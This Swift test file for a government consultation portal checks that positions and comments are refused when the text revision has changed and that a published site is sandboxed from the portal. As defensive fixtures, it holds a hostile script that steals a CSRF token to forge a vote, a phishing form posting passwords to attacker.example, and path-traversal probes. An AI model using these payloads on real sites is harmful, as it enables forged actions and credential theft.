import Foundation
import Hummingbird
import HummingbirdTesting
import SOPKit
import SOPServer
import Testing

/// A position or a comment counts only on the text the official had in front of them: the
/// forms carry the revision and its fingerprints, and a revision that came in between is a
/// 409 that links to the changes and keeps what they typed.
@Suite struct WhatTheyReadTests {
    static func night(_ text: String) -> String { text.replacingOccurrences(of: "within one hour", with: "within thirty minutes") }

    @Test func aPositionOnARevisionTheOfficialNeverReadIsRefused() async throws {
        let fixture = try PortalFixture()
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            let form = try await tt.get("/rounds/night-1/position")
            #expect(form.body.contains(#"name="revision""#) && form.body.contains(#"name="fingerprints""#))
            try fixture.revise(Self.night)
            let stale = try await tt.post(
                "/rounds/night-1/position", [("participant", "TT"), ("stance", "object"), ("reason", "Two hours at night, not one.")])
            #expect(stale.status == .conflict)
            #expect(stale.body.contains("Your position was not recorded"))
            #expect(stale.body.contains(#"href="/rounds/night-1/changes?against=1""#), "links to what changed since the text read")
            #expect(stale.body.contains("Two hours at night, not one."), "what the official typed is shown again")
            let changes = try await tt.get("/rounds/night-1/changes?against=1")
            #expect(changes.status == .ok)
            #expect(changes.body.contains("revision 1") && changes.body.contains("thirty minutes"))
            try await tt.get("/rounds/night-1/position")
            let fresh = try await tt.post("/rounds/night-1/position", [("participant", "TT"), ("stance", "approve")])
            #expect(fresh.status == .seeOther)
        }
        let round = try fixture.currentRound()
        #expect(round.revision.number == 2)
        #expect(round.positions.count == 1, "the refused objection left no event")
        #expect(round.currentPositions["TT"]?.stance == .approve)
        #expect(round.currentPositions["TT"]?.revision == 2)
    }

    @Test func aCommentOnASectionThatChangedIsRefusedAndOneOnAnUnchangedSectionLands() async throws {
        let fixture = try PortalFixture()
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            try await tt.get("/rounds/night-1")
            let jm = Browser(client)
            try await jm.signIn(fixture.accounts["JM"]!)
            try await jm.get("/rounds/night-1")
            try fixture.revise(Self.night)
            let changed = try await tt.post(
                "/rounds/night-1/comments",
                [("participant", "TT"), ("section", "SOP-004#detection"), ("quote", "within one hour"), ("type", "te"), ("text", "Not workable at night.")])
            #expect(changed.status == .conflict)
            #expect(changed.body.contains("SOP-004#detection changed"))
            #expect(changed.body.contains("Not workable at night.") && changed.body.contains("within one hour"), "the comment and its quote are kept")
            let unchanged = try await jm.post(
                "/rounds/night-1/comments", [("participant", "JM"), ("section", "SOP-004#screening"), ("type", "ed"), ("text", "Number the list.")])
            #expect(unchanged.status == .seeOther, "the revision left 5.7 as JM read it")
        }
        let round = try fixture.currentRound()
        #expect(round.comments.map(\.participant) == ["JM"])
        #expect(round.comments.first?.revision == 2)
    }

    @Test func aCommentOnASectionTheReadRevisionDidNotHaveIsRefused() async throws {
        let fixture = try PortalFixture()
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            try await tt.get("/rounds/night-1")
            try fixture.revise { $0 + "\n### 7.1 Night operations {#night}\n\nPatrols at night report every hour.\n" }
            let unseen = try await tt.post(
                "/rounds/night-1/comments", [("participant", "TT"), ("section", "SOP-004#night"), ("type", "te"), ("text", "Every two hours.")])
            #expect(unseen.status == .conflict)
            #expect(unseen.body.contains("SOP-004#night changed"))
        }
        #expect(try fixture.currentRound().comments.isEmpty)
    }

    @Test func aFormThatDoesNotSayWhatWasReadIsRefused() async throws {
        let fixture = try PortalFixture()
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            let page = try await tt.get("/rounds/night-1/position")
            let revision = try #require(tt.hidden("revision", in: page.body))
            let position = [("participant", "TT"), ("stance", "approve")]
            let bare = try await tt.post("/rounds/night-1/position", position + [("revision", ""), ("fingerprints", "")])
            #expect(bare.status == .conflict)
            #expect(bare.body.contains("does not say which text you read"))
            try await tt.get("/rounds/night-1/position")
            let forged = try await tt.post("/rounds/night-1/position", position + [("fingerprints", String(repeating: "0", count: 64))])
            #expect(forged.status == .conflict, "fingerprints that are not those of revision \(revision.prefix(7))")
            try await tt.get("/rounds/night-1")
            let comment = try await tt.post(
                "/rounds/night-1/comments",
                [("participant", "TT"), ("section", "SOP-004#detection"), ("type", "ge"), ("text", "x"), ("revision", String(repeating: "a", count: 40))])
            #expect(comment.status == .conflict, "a revision that is not one of the round's")
        }
        let round = try fixture.currentRound()
        #expect(round.positions.isEmpty && round.comments.isEmpty)
    }

    /// The offline form says which revision each row was written on; a ministry's row on a
    /// section that changed since is refused, one on an unchanged section lands.
    @Test func anOfflineFormWrittenOnAnEarlierRevisionLandsOnlyWhereTheTextIsUnchanged() async throws {
        let fixture = try PortalFixture()
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            let form = try await tt.get("/rounds/night-1/form.csv")
            #expect(form.body.contains("\"Secretariat observation\",\"Revision\",\"Quoted words\",\"Blocking\"\r\n"))
            #expect(form.body.contains("\"SOP-004#detection\",\"SOP-004 §5.1 Detection and reporting\",\"\",\"\",\"\",\"\",\"\",\"1\",\"\",\"\"\r\n"))
            try fixture.revise(Self.night)
            let header = "\"Participant\",\"Section ID\",\"Type\",\"Comment\",\"Proposed change\",\"Revision\"\r\n"
            try await tt.get("/rounds/night-1")
            let changed = try await tt.upload(
                "/rounds/night-1/form", field: "form", filename: "TT.csv",
                data: Data((header + "\"TT\",\"SOP-004#detection\",\"te\",\"One hour is too short.\",\"\",\"1\"\r\n"
                    + "\"TT\",\"SOP-004#screening\",\"ed\",\"Number the list.\",\"\",\"1\"\r\n").utf8), fields: [("participant", "TT")])
            #expect(changed.status == .conflict)
            #expect(changed.body.contains("SOP-004#detection changed"))
            try await tt.get("/rounds/night-1")
            let unchanged = try await tt.upload(
                "/rounds/night-1/form", field: "form", filename: "TT.csv",
                data: Data((header + "\"TT\",\"SOP-004#screening\",\"ed\",\"Number the list.\",\"\",\"1\"\r\n").utf8), fields: [("participant", "TT")])
            #expect(unchanged.status == .seeOther)
        }
        #expect(try fixture.currentRound().comments.map(\.text) == ["Number the list."], "nothing of the refused form, the unchanged row once")
    }

    /// The library checks it too, so the CLI and the portal share one rule.
    @Test func theLibraryRefusesAPositionOnTextThatIsNoLongerCurrent() throws {
        let fixture = try PortalFixture()
        let workspace = try Workspace.open(fixture.root.path)
        let round = try Consultation(workspace).log.round(fixture.round)
        let seen = SeenText(try RevisionText(workspace: workspace, commit: round.revision.commit, scope: round.procedures))
        try fixture.revise(Self.night)
        let consultation = Consultation(try Workspace.open(fixture.root.path))
        consultation.keyDirectory = fixture.keys
        consultation.portalKey = try KeyPair.load(for: KeyRegistry.portal, in: fixture.keys)
        let actor = Actor(participant: "TT", author: .init(name: "Official TT", email: "ana@immigration.gov.tt"))
        #expect(throws: SOPError.self) {
            try consultation.state(.approve, round: fixture.round, reason: nil, reservations: [], statement: nil, as: actor, now: fixture.clock.now, seen: seen)
        }
        #expect(try consultation.log.round(fixture.round).positions.isEmpty)
    }
}

/// The published set lives on an origin of its own, in a sandbox, without sessions; the portal's
/// own pages never take templates or scripts from main.
@Suite struct PublishedSiteIsolationTests {
    static let hostileScript = """
        fetch("/rounds/night-1/position").then(r => r.text()).then(page => {
          const csrf = page.match(/name="csrf" value="([^"]+)"/)[1];
          fetch("/rounds/night-1/position", {method: "POST", body: new URLSearchParams({csrf, participant: "TT", stance: "object", reason: "pwned"})});
        });
        """

    @Test func theSetIsNotServedOnThePortalsOrigin() async throws {
        let fixture = try PortalFixture()
        try fixture.commitOnMain(["Templates/site/search.js": Self.hostileScript], message: "A replica's search script")
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            for path in ["/site/search.js", "/site/index.html", "/site/procedures/SOP-004.html"] {
                let page = try await tt.get(path)
                #expect(page.status == .seeOther, "\(path)")
                #expect(page.location == "http://localhost:8081/" + path.dropFirst("/site/".count), "\(path)")
                #expect(!page.body.contains("fetch("), "\(path): no script from main on the portal's origin")
            }
            let round = try await tt.get("/rounds/night-1")
            let policy = try #require(round.headers[.contentSecurityPolicy])
            #expect(policy.contains("form-action 'self'") && policy.contains("frame-ancestors 'none'"))
        }
    }

    @Test func theSetsOwnOriginIsASandboxWithoutSessionsOrForms() async throws {
        let fixture = try PortalFixture()
        try fixture.commitOnMain(["Templates/site/search.js": Self.hostileScript], message: "A replica's search script")
        try await fixture.site { client in
            let cookie: HTTPFields = [.cookie: "sop_session=\(String(repeating: "A", count: 43)); sop_form=x"]
            for path in ["/index.html", "/search.js", "/procedures/SOP-004.html"] {
                let response = try await client.execute(uri: path, method: .get, headers: cookie)
                #expect(response.status == .ok, "\(path)")
                let policy = response.headers[.contentSecurityPolicy] ?? ""
                #expect(policy.hasPrefix("sandbox allow-scripts;"), "\(path): runs in an opaque origin, without forms: \(policy)")
                #expect(!policy.contains("allow-same-origin") && !policy.contains("allow-forms"))
                #expect(policy.contains("form-action 'none'") && policy.contains("frame-ancestors 'none'"))
                #expect(response.headers[.setCookie] == nil, "\(path)")
            }
            for path in ["/..%2F..%2Faccounts.json", "/.sop/manifest.json", "/%2e%2e/config", "/procedures/..%2F..%2F..%2Fconfig"] {
                let response = try await client.execute(uri: path, method: .get)
                #expect(response.status == .notFound, "\(path)")
                #expect(response.headers[.contentSecurityPolicy]?.hasPrefix("sandbox") == true, "\(path)")
            }
            #expect(try await client.execute(uri: "/rounds/night-1", method: .get).status == .notFound, "no portal page on the set's origin")
            #expect(try await client.execute(uri: "/signin", method: .post, body: ByteBuffer(string: "email=a")).status != .ok)
        }
    }

    @Test func thePortalsTemplatesAndScriptComeFromTheInstallationNotFromMain() async throws {
        let fixture = try PortalFixture()
        try fixture.commitOnMain(
            [
                "Templates/portal/portal.js": Self.hostileScript,
                "Templates/portal/footer.mustache": "<form action=\"https://attacker.example/\"><input name=\"password\"></form>\n",
            ], message: "A replica's portal look")
        try await fixture.test { client, _ in
            let tt = Browser(client)
            try await tt.signIn(fixture.accounts["TT"]!)
            let script = try await tt.get("/assets/portal.js")
            #expect(script.status == .ok && !script.body.contains("pwned"))
            let page = try await tt.get("/rounds/night-1")
            #expect(!page.body.contains("attacker.example"))
        }
    }
}
